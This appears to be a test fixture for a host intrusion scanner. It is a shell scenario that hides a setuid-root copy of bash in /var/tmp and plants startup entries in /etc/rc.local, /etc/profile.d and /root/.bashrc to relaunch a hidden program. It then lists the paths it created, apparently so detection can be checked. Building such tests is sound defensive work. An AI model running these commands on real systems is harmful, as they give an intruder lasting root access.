# id: C18
# mode: scan
# level: suspicious
# due: now
# title: a shell that gives root, and three files that start a hidden program
. "$here/intruder.sh"
word name
mkdir -p "/var/tmp/.$name"
cp "$here/idle" "/var/tmp/.$name/run"
cp /bin/bash "/var/tmp/.$name/sh"
chmod 4755 "/var/tmp/.$name/sh"
printf '#!/bin/sh\n/var/tmp/.%s/run &\nexit 0\n' "$name" >/etc/rc.local
chmod 755 /etc/rc.local
echo "(/var/tmp/.$name/run &) >/dev/null 2>&1" >"/etc/profile.d/$name.sh"
echo "nohup /var/tmp/.$name/run >/dev/null 2>&1 &" >>/root/.bashrc
start "/var/tmp/.$name/run"
said pid "$pid"
said path "/var/tmp/.$name/sh"
said path /etc/rc.local
said path "/etc/profile.d/$name.sh"
said path /root/.bashrc
said restarter path /etc/rc.local
